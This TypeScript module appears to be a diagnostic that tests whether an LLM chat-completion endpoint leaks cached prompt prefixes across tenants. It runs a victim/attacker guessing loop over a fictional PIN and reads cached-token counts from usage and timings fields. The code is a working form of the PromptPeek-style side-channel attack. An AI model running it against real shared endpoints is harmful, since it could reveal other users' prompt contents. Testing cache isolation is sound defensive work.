import * as z from "zod";

export type PrefixCacheProbeOptions = {
    baseURL: string,
    model: string,
    /** The victim's key; defaults to none. */
    victimApiKey?: string | null,
    /** The attacker's key; defaults to the victim's (an endpoint without keys cannot tell them apart anyway). */
    attackerApiKey?: string | null,
    /** The victim's secret PIN. Defaults to `4417`. */
    secret?: string,
    /** The attacker's guesses, each tried right after the victim sent its secret again. Defaults to three wrong ones and the right one. */
    guesses?: string[],
    /**
     * `cache_salt` sent by the victim and the attacker: does the endpoint keep salted prefixes apart?
     * The attacker's salt gets the round's number appended, so that no guess is served from the
     * attacker's own earlier guesses (a server may rightly reuse within one salt). Defaults to none sent.
     */
    salts?: {victim: string, attacker: string},
    timeoutMs?: number,
    fetch?: typeof fetch
};

export type PrefixCacheRound = {
    guess: string,
    promptTokens: number | null,
    /** Prompt tokens of the attacker's request the endpoint says it took from its cache; null when it does not say. */
    cachedTokens: number | null
};

export type PrefixCacheProbeReport = {
    secret: string,
    /** Where the cached counts were read: OpenAI's `usage.prompt_tokens_details.cached_tokens`, llama-server's `timings.cache_n`, or nowhere. */
    measuredBy: "cached_tokens" | "timings.cache_n" | null,
    salted: boolean,
    rounds: PrefixCacheRound[],
    /** The most prompt tokens one attacker request was served from a cache the victim filled. */
    crossTenantCachedTokens: number,
    /** An attacker request was served from the victim's cache: its prefix came back to another tenant. */
    leak: boolean,
    /** The guess that was served the most cached tokens, when one was strictly ahead: what the attacker learns. */
    bestGuess: string | null,
    error: string | null
};

export const defaultProbeSecret = "4417";
export const defaultProbeGuesses = ["1234", "9417", "4400", "4417"];

/** The victim's message with its PIN, and the attacker's with a guess in its place (the same opening: PromptPeek's shape). */
export function pinPrompt(pin: string) {
    return `Once upon a time, Lily kept a secret diary about her bank PIN ${pin} and she never told anyone where she hid it.`;
}

const CachedCountsSchema = z.object({
    usage: z.object({
        prompt_tokens: z.number().optional(),
        prompt_tokens_details: z.object({cached_tokens: z.number().nullish()}).nullish()
    }).nullish(),
    timings: z.object({cache_n: z.number().optional()}).nullish()
});

/**
 * The prefix-cache side channel (PromptPeek, NDSS 2025; InputSnatch): a victim sends a prompt
 * holding a secret; an attacker, with its own key, sends the same opening with a guess and reads
 * how many of its prompt tokens the server says it served from cache. Before each guess the
 * victim sends its prompt again, so each guess is measured against the victim's cache, not the
 * attacker's last guess. Any cached token on an attacker request means the victim's prefix came
 * back to another tenant; the more of the secret a guess gets right, the more tokens come back.
 */
export async function probePrefixCache(options: PrefixCacheProbeOptions): Promise<PrefixCacheProbeReport> {
    const secret = options.secret ?? defaultProbeSecret;
    const guesses = options.guesses ?? defaultProbeGuesses;
    const report: PrefixCacheProbeReport = {
        secret, measuredBy: null, salted: options.salts != null, rounds: [], crossTenantCachedTokens: 0, leak: false, bestGuess: null, error: null
    };
    const doFetch = options.fetch ?? fetch;
    const ask = async (pin: string, apiKey: string | null | undefined, salt: string | undefined) => {
        const response = await doFetch(`${options.baseURL.replace(/\/$/, "")}/chat/completions`, {
            method: "POST",
            headers: {"content-type": "application/json", ...apiKey != null ? {authorization: `Bearer ${apiKey}`} : {}},
            body: JSON.stringify({
                model: options.model, messages: [{role: "user", content: pinPrompt(pin)}], max_tokens: 1, temperature: 0,
                ...salt != null ? {cache_salt: salt} : {}
            }),
            signal: AbortSignal.timeout(options.timeoutMs ?? 60_000)
        });
        const text = await response.text();
        if (!response.ok)
            throw new Error(`HTTP ${response.status}: ${text.slice(0, 300)}`);
        return CachedCountsSchema.parse(JSON.parse(text));
    };
    try {
        for (const [round, guess] of guesses.entries()) {
            await ask(secret, options.victimApiKey, options.salts?.victim);
            const attackerSalt = options.salts == null ? undefined : `${options.salts.attacker}-${round + 1}`;
            const reply = await ask(guess, options.attackerApiKey === undefined ? options.victimApiKey : options.attackerApiKey, attackerSalt);
            const fromUsage = reply.usage?.prompt_tokens_details?.cached_tokens;
            const fromTimings = reply.timings?.cache_n;
            const cachedTokens = fromUsage ?? fromTimings ?? null;
            report.measuredBy ??= fromUsage != null ? "cached_tokens" : fromTimings != null ? "timings.cache_n" : null;
            report.rounds.push({guess, promptTokens: reply.usage?.prompt_tokens ?? null, cachedTokens});
        }
    } catch (error) {
        report.error = error instanceof Error ? error.message : String(error);
    }
    const counts = report.rounds.map((round) => round.cachedTokens ?? 0);
    report.crossTenantCachedTokens = Math.max(0, ...counts);
    report.leak = report.crossTenantCachedTokens > 0;
    const best = report.rounds.filter((round) => (round.cachedTokens ?? 0) === report.crossTenantCachedTokens);
    report.bestGuess = report.leak && best.length === 1 ? best[0]!.guess : null;
    return report;
}
